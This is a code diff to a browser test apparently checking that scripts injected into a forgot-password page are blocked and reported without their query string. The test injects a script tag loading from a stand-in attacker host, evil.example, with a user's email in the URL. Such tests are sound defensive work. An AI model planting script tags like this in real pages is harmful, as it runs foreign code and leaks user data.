@@ -15,7 +15,8 @@ async function reportsOf(path: string): Promise<Record<string, unknown>[]> {
 test('scripts in the markup of a page do not run, and are reported without the query', async ({
   page,
 }) => {
-  await page.route('**/forgot-password*', async (route) => {
+  const isPage = ({ pathname }: URL) => pathname === '/forgot-password';
+  await page.route(isPage, async (route) => {
     const response = await route.fetch();
     const injected =
       '<script>window.hasRun = true</script><script src="https://evil.example/x.js?of=ana@example.es"></script>';
